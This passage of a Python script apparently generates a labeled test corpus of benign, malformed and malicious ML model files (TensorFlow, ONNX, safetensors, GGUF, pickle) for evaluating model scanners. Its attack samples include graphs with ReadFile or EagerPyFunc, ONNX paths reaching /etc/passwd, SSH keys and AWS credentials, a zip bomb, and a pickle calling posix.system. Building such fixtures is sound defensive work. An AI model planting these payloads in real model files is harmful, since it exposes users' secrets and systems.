         "Keras 2 HDF5 Lambda (fixed-length bytes attribute, as Keras writes it)")


# ---------------------------------------------------------------- protobuf (SavedModel, ONNX)
def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_len(field, payload):
    if isinstance(payload, str):
        payload = payload.encode()
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def pb_int(field, value):
    return varint(field << 3) + varint(value)


def node_def(name, op, *inputs):
    return pb_len(1, name) + pb_len(2, op) + b"".join(pb_len(3, i) for i in inputs)


def function_def(name, nodes):
    return pb_len(1, pb_len(1, name)) + b"".join(pb_len(3, n) for n in nodes)


def saved_model(graph_nodes, functions):
    graph = b"".join(pb_len(1, n) for n in graph_nodes)
    if functions:
        graph += pb_len(2, b"".join(pb_len(1, f) for f in functions))
    meta = pb_len(1, pb_len(4, "serve")) + pb_len(2, graph)
    return pb_int(1, 1) + pb_len(2, meta)


SAVER = [function_def("__inference__traced_save_123", [
    node_def("StaticRegexFullMatch", "StaticRegexFullMatch", "file_prefix"),
    node_def("StringJoin", "StringJoin", "file_prefix"), node_def("ShardedFilename", "ShardedFilename", "StringJoin"),
    node_def("SaveV2", "SaveV2", "ShardedFilename"), node_def("MergeV2Checkpoints", "MergeV2Checkpoints", "SaveV2")]),
    function_def("__inference__traced_restore_456", [node_def("RestoreV2", "RestoreV2", "file_prefix")])]
SERVE = [node_def("x", "Placeholder"), node_def("w", "VarHandleOp"), node_def("r", "ReadVariableOp", "w"),
         node_def("y", "MatMul", "x", "r"), node_def("out", "Identity", "y")]


def savedmodel_dir(rel, pb, kind, technique):
    emit(rel + "/saved_model.pb", pb, "tf-savedmodel", kind, technique)
    emit(rel + "/variables/variables.index", b"\x00" * 32, "other", "benign", "checkpoint index (not a graph)")
    emit(rel + "/variables/variables.data-00000-of-00001", struct.pack("<4f", 1, 2, 3, 4), "other", "benign",
         "checkpoint data")


def tensorflow_files():
    savedmodel_dir("benign/tf/savedmodel", saved_model(SERVE, SAVER), "benign",
                   "serving graph + the standard saver functions (SaveV2/RestoreV2 inside the saver)")
    savedmodel_dir("malicious/tf/readfile", saved_model(SERVE + [node_def("leak", "ReadFile", "path")], SAVER),
                   "attack", "ReadFile in the serving graph")
    savedmodel_dir("malicious/tf/writefile_fn", saved_model(SERVE, SAVER + [function_def(
        "__inference_serve_789", [node_def("w", "WriteFile", "fname", "contents")])]), "attack",
        "WriteFile inside a library function")
    savedmodel_dir("malicious/tf/pyfunc", saved_model(SERVE + [node_def("py", "EagerPyFunc", "x")], SAVER), "attack",
                   "EagerPyFunc (runs Python) in the graph")
    savedmodel_dir("malicious/tf/save_outside_saver", saved_model(SERVE + [node_def("s", "SaveV2", "prefix")], SAVER),
                   "attack", "SaveV2 in the serving graph (arbitrary file write), outside the saver functions")
    emit("malicious/tf/graph_renamed.bin", saved_model(SERVE + [node_def("leak", "ReadFile", "path")], SAVER),
         "tf-savedmodel", "attack", "a SavedModel protobuf under another name, ReadFile in the graph")


def onnx_model(initializers=(), nodes=()):
    graph = b"".join(pb_len(1, n) for n in nodes) + pb_len(2, "g") + b"".join(pb_len(5, t) for t in initializers)
    graph += pb_len(11, pb_len(1, "x")) + pb_len(12, pb_len(1, "y"))
    return pb_int(1, 8) + pb_len(2, "mlsec-corpus") + pb_len(7, graph) + pb_len(8, pb_len(1, "") + pb_int(2, 17))


def onnx_tensor(name, location=None, raw=None):
    t = pb_int(1, 2) + pb_int(1, 2) + pb_int(2, 1) + pb_len(8, name)
    if raw is not None:
        t += pb_len(9, raw)
    if location is not None:
        t += pb_len(13, pb_len(1, "location") + pb_len(2, location)) + pb_len(13, pb_len(1, "offset") + pb_len(2, "0")) \
            + pb_int(14, 1)
    return t


def onnx_files():
    emit("benign/onnx/inline.onnx", onnx_model([onnx_tensor("W", raw=struct.pack("<4f", 1, 2, 3, 4))],
                                               [pb_len(1, "x") + pb_len(1, "W") + pb_len(2, "y") + pb_len(4, "MatMul")]),
         "onnx", "benign", "inline initializer")
    emit("benign/onnx/external/model.onnx", onnx_model([onnx_tensor("W", location="weights.bin")]), "onnx", "benign",
         "external data next to the model")
    emit("benign/onnx/external/weights.bin", struct.pack("<4f", 1, 2, 3, 4), "other", "benign", "raw weights")
    emit("malicious/onnx/absolute.onnx", onnx_model([onnx_tensor("W", location="/etc/passwd")]), "onnx", "attack",
         "external data at an absolute path")
    emit("malicious/onnx/traversal.onnx", onnx_model([onnx_tensor("W", location="../../../home/u/.ssh/id_rsa")]),
         "onnx", "attack", "external data path escaping the model directory")
    emit("malicious/onnx/renamed_traversal.bin", onnx_model([onnx_tensor("W", location="../../.aws/credentials")]),
         "onnx", "attack", "ONNX under a .bin name (no extension to go by) with a traversing external-data path")
    emit("benign/onnx/renamed_inline.weights", onnx_model([onnx_tensor("W", raw=struct.pack("<4f", 1, 2, 3, 4))]),
         "onnx", "benign", "ONNX under an unknown extension, inline data")
    const_node = pb_len(2, "c") + pb_len(4, "Constant") + pb_len(5, pb_len(1, "value") + pb_len(
        5, onnx_tensor("C", location="/proc/self/environ")) + pb_int(20, 4))
    emit("malicious/onnx/constant_attr.onnx", onnx_model([], [const_node]), "onnx", "attack",
         "external data in a Constant node's tensor attribute")


# ---------------------------------------------------------------- safetensors, GGUF
def safetensors(header, data, declared_len=None):
    h = json.dumps(header).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", declared_len if declared_len is not None else len(h)) + h + data


def gguf_string(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(tensor_count=1, kv=None, version=3, tensors=None, data=b"\x00" * 32):
    kv = kv if kv is not None else [("general.architecture", gguf_string("llama"))]
    out = b"GGUF" + struct.pack("<IQQ", version, tensor_count, len(kv))
    for key, val in kv:
        out += gguf_string(key) + struct.pack("<I", 8) + val
    for name, dims, offset in (tensors if tensors is not None else [("tok_embd.weight", [4, 2], 0)]):
        out += gguf_string(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) \
            + struct.pack("<IQ", 0, offset)
    out += b"\x00" * (-len(out) % 32)
    return out + data


def safe_formats():
    ok_header = {"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                 "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}
    data = struct.pack("<6f", 1, 2, 3, 4, 5, 6)
    emit("benign/safetensors/model.safetensors", safetensors(ok_header, data), "safetensors", "benign",
         "two F32 tensors with metadata")
    m = "malformed/safetensors/"
    emit(m + "len_beyond_eof.safetensors", safetensors(ok_header, data, declared_len=1 << 40), "safetensors",
         "malformed", "header length 1 TiB")
    emit(m + "bad_json.safetensors", struct.pack("<Q", 16) + b'{"w": {"dtype": ' + data, "safetensors", "malformed",
         "header is not JSON")
    emit(m + "overlap.safetensors", safetensors({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                                                 "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}, data),
         "safetensors", "malformed", "overlapping tensors")
    emit(m + "beyond_data.safetensors", safetensors({"w": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}},
                                                    data), "safetensors", "malformed", "offsets past the end of file")
    emit(m + "shape_mismatch.safetensors", safetensors({"w": {"dtype": "F32", "shape": [3, 3], "data_offsets": [0, 24]}},
                                                       data), "safetensors", "malformed",
         "shape x dtype size != offsets span")
    emit("benign/gguf/model.gguf", gguf(), "gguf", "benign", "GGUF v3, one tensor, one key")
    m = "malformed/gguf/"
    emit(m + "huge_tensor_count.gguf", gguf(tensor_count=1 << 60), "gguf", "malformed", "tensor count 2^60")
    emit(m + "string_beyond_eof.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 50) + b"abc",
         "gguf", "malformed", "key length 2^50 in a tiny file")
    emit(m + "bad_version.gguf", gguf(version=99), "gguf", "malformed", "version 99")
    emit(m + "bad_value_type.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + gguf_string("k") + struct.pack("<I", 77)
         + b"\x00" * 16, "gguf", "malformed", "key-value type 77")


# ---------------------------------------------------------------- zip bombs, non-model files
def bombs_and_other():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("archive/data.pkl", "w", force_zip64=True) as f:
            f.write(PROTO + b"\x04")
            chunk = (NONE + POP) * (1 << 19)
            for _ in range(1024):
                f.write(chunk)
    emit("malformed/zip/bomb_1gib.pt", buf.getvalue(), "pytorch-zip", "malformed",
         "data.pkl deflates to 1 GiB of valid NONE/POP opcodes (~1 MB on disk; ratio ~1000:1)")
    emit("malformed/zip/truncated.pt", torch_zip([("data.pkl", torch_state_pickle())])[:-30], "pytorch-zip",
         "malformed", "zip cut inside the central directory")
    o = "benign/other/"
    emit(o + "train.py", b"import os\nimport pickle\n\nmodel = pickle.loads(open('m.pkl', 'rb').read())\n", "other",
         "benign", "Python source starting with 'i' (the INST opcode)")
    emit(o + "data.csv", b"col_a,col_b\n1,2\n3,4\n", "other", "benign", "CSV starting with 'c' (the GLOBAL opcode)")
    emit(o + "README.md", b"# Model\n\nSee (weights) below.\n", "other", "benign", "Markdown")
    emit(o + "requirements.txt", b"numpy==2.4.6\ntorch==2.9.0\n", "other", "benign", "text")
    emit(o + "config.json", json.dumps({"architectures": ["BertModel"], "hidden_size": 768}).encode(), "other",
         "benign", "HF config")
    emit(o + "image.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "other", "benign", "PNG header")
    emit(o + "notes.txt", b"S'quoted string'\nsome notes\n", "other", "benign",
         "text starting with S' (the STRING opcode) that is not a complete pickle")
    emit(o + "archive.zip", zip_of([("docs/a.txt", b"hello"), ("docs/b.md", b"# b")]), "other", "benign",
         "a zip with no model inside")


def zip_of(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()


def big_pickle(mib):
    """PROTO 4, a list of 1 MiB BINBYTES chunks (streamed to disk), then posix.system at the end."""
    path = os.path.join(OUT, "big", "huge.pkl")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    chunk = by(bytes(range(256)) * 4096)
    with open(path, "wb") as f:
        f.write(PROTO + b"\x04" + EMPTY_LIST + MARK)
        for _ in range(mib):
            f.write(chunk)
        f.write(APPENDS + POP + call(sg("posix", "system"), u(CMD)) + STOP)


def main():
    global OUT
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--big-pickle-mib", type=int, default=0)
    a = ap.parse_args()
    OUT = a.outdir
    os.makedirs(OUT, exist_ok=True)
    for part in (raw_pickles, torch_files, numpy_files, joblib_files, keras_files, tensorflow_files, onnx_files,
                 safe_formats, bombs_and_other):
        part()
    paths = [e["path"] for e in MANIFEST]
    assert len(paths) == len(set(paths)), "duplicate corpus paths"
    for e in MANIFEST:
        assert os.path.isfile(os.path.join(OUT, e["path"])), e["path"]
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump({"files": MANIFEST}, f, indent=1)
    if a.big_pickle_mib:
        big_pickle(a.big_pickle_mib)
    counts = {}
    for e in MANIFEST:
        counts[e["kind"]] = counts.get(e["kind"], 0) + 1
    print(f"{len(MANIFEST)} files: " + ", ".join(f"{v} {k}" for k, v in sorted(counts.items())), file=sys.stderr)


if __name__ == "__main__":
    main()
